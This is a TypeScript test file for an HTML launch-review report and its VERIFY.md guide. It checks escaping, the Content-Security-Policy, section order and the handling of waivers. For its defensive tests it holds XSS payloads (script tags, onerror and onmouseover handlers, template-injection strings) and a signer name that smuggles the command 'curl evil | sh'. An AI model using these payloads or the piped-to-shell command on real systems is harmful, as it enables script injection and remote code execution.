import { describe, expect, it, vi } from 'vitest';
import { buildRecord } from '../../../shared/record/build-record';
import { renderReport } from '../../../shared/report/html';
import { escapeHtml, html } from '../../../shared/report/markup';
import { renderVerifyGuide } from '../../../shared/report/verify-guide';
import { makeTarget, ReviewLog, type Seen, start } from '../../support/review/review-log';

vi.mock('../../../shared/controls', () => import('../../support/review/catalogue'));
vi.mock('../../../shared/facts', () => import('../../support/review/catalogue'));

const signers = [{ name: 'Ada Lead', role: 'tech lead', sha256: 'a'.repeat(64) }];
const recordOf = (log: ReviewLog) => buildRecord({ ...log, signers });
const report = (
  options: { target?: ReviewLog['target']; seen?: Seen; evidence?: Uint8Array } = {},
  before?: (log: ReviewLog) => void,
): string => renderReport(recordOf(ReviewLog.frozen(options, before)));
/** What a reader sees, without the markup. */
const text = (page: string): string =>
  page
    .replace(/<style>[\s\S]*<\/style>/, '')
    .replace(/<[^>]*>/g, ' ')
    .replace(/&#39;/g, "'")
    .replace(/\s+/g, ' ');

describe('markup', () => {
  it('escapes every value, in text and in attributes', () => {
    expect(html`<p title="${'"\'><'}">${'<b>&'}</p>`.text).toBe('<p title="&quot;&#39;&gt;&lt;">&lt;b&gt;&amp;</p>');
    expect(html`${[html`<i>${1}</i>`, null, false, undefined, 'x']}`.text).toBe('<i>1</i>x');
  });
  it('shows what turns or hides text', () => {
    expect(escapeHtml('a\u202eb\u200bc\u0000d\u001b[2Je\nf\tg')).toBe('a‹U+202E›b‹U+200B›c‹U+0000›d‹U+001B›[2Je\nf\tg');
  });
});

describe('the report', () => {
  it('runs nothing, loads nothing, and stands alone', () => {
    const page = report();
    expect(page).toMatch(/^<!doctype html>\n<html lang="en">/);
    expect(page).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`,
    );
    expect(page).not.toMatch(/<script|<link|<img|<iframe|<form|\ssrc=|\shref=|url\(|@import|javascript:|\son\w+=/i);
  });

  it('begins with the decision, on what, by whom', () => {
    const page = text(report());
    const order = [
      'Launch review of Example Shop, production',
      'GO for Example Shop (production)',
      'https://shop.example',
      'commit 4f2c1e9d0b , working tree clean, SHOP-12',
      'ada on laptop',
      'go tech lead: Ada Lead',
      'go security: Grace Security unsigned',
      'In figures',
      'What is out of scope',
      'Risks accepted None.',
      'The launch list',
      'Every finding',
      'The poll',
    ];
    let at = 0;
    for (const words of order) {
      const found = page.indexOf(words, at);
      expect(found, words).toBeGreaterThanOrEqual(at);
      at = found;
    }
  });

  it('tells the server’s own word from what was seen from outside', () => {
    expect(text(report())).toContain('Of 3 passes, 1 rest on the server’s own word');
    expect(text(report())).toMatch(
      /web-1: stat -L -c %a \/srv\/shop\/\.env as deploy 2026-11-24 10:00 UTC · the server’s own word/,
    );
    expect(text(report())).toMatch(
      /https:\/\/shop\.example\/ at 203\.0\.113\.7:443 2026-11-24 10:00 UTC · seen from outside/,
    );
  });

  it('names what is out of scope, and who says why', () => {
    expect(text(report())).toContain(
      'the module pci is off in the target (1 control: pci.scope) “pci.scope is done” Ada Lead',
    );
    const open = new ReviewLog();
    open.release();
    open.run();
    open.vote('tech lead', 'no-go');
    open.vote('security', 'no-go');
    open.add('frozen', {});
    expect(text(renderReport(recordOf(open)))).toContain('pci.scope) no reason given');
  });

  it('shows waived failures as failures, with who accepted the risk', () => {
    const page = text(report({ seen: { days: 3 } }, (log) => log.waive('tls.expiry')));
    expect(page).toMatch(
      /Risks accepted .*tls\.expiry fail only 3 days left accepted until the next release Ada Lead, Grace Security unsigned 2026-12-14/,
    );
    expect(page).toContain('Waived, and still failing (1)');
    expect(page).toMatch(/Repair Repair Certificate lasts\. certbot renew/);
  });

  it('says what PCI is not, where the target asks for PCI', () => {
    const words = 'This is no ASV scan, no SAQ and no penetration test.';
    expect(report()).not.toContain(words);
    expect(report({ target: makeTarget({ modules: { pci: true } }) })).toContain(words);
  });

  it('drops no vote that was taken back', () => {
    const page = text(report({}, (log) => log.vote('security', 'no-go', 'Grace Security')));
    expect(page).toMatch(
      /security no-go void since event \d+ Grace Security unsigned 2026-11-24 \d\d:\d\d UTC not yet/,
    );
  });

  it('names evidence by its hash', () => {
    expect(text(report({ evidence: Buffer.from('x') }))).toMatch(/minutes\.txt, 1 bytes: evidence\/2d711642b726b044/);
  });

  it('is not fooled by what servers and people write', () => {
    const hostile = [
      '</style><script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      "' onmouseover='alert(1)",
      '<!--',
      ']]>',
      '&lt;script&gt;',
      '\u202egpj.exe',
      '\u0000\u001b]0;title\u0007',
      '${alert(1)} {{alert(1)}}',
    ];
    const log = ReviewLog.frozen();
    for (const payload of hostile) {
      const clean = recordOf(log);
      const page = renderReport(poisoned(clean, payload) as typeof clean);
      // Nothing that was written became markup: every tag and every attribute is the template's own.
      expect(markupOf(page), payload).toEqual(markupOf(renderReport(clean)));
      expect(page).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202a-\u202e]/);
    }
  });
});

/** The kinds of tags, with the names of their attributes, as a browser would find them. */
const markupOf = (page: string): Set<string> =>
  new Set((page.match(/<[^>]*>/g) ?? []).map((tag) => tag.replace(/"[^"]*"/g, '""')));

/** The same value with every text replaced, but for dates, hashes and what the report branches on. */
function poisoned(value: unknown, payload: string, key = ''): unknown {
  if (typeof value === 'string') {
    const kept = ['status', 'decision', 'severity', 'control', 'facts', 'kind', 'state', 'vote', 'type'];
    return kept.includes(key) || /^\d{4}-|^[0-9a-f]{64}$/.test(value) ? value : payload;
  }
  if (Array.isArray(value)) return value.map((one) => poisoned(one, payload, key));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, poisoned(inner, payload, name)]));
}

describe('VERIFY.md', () => {
  it('lets no name write commands of its own', () => {
    const record = structuredClone(recordOf(ReviewLog.frozen()));
    record.signers[0]!.name = 'Ada\n\n    curl evil | sh\n';
    const guide = renderVerifyGuide(record, { signingTime: new Date(start) });
    expect(guide).toMatch(/^ {4}Ada +curl evil \| sh +, tech lead$/m);
    expect(guide.split('\n').filter((line) => /^ {4}curl/.test(line))).toEqual([]);
  });
});
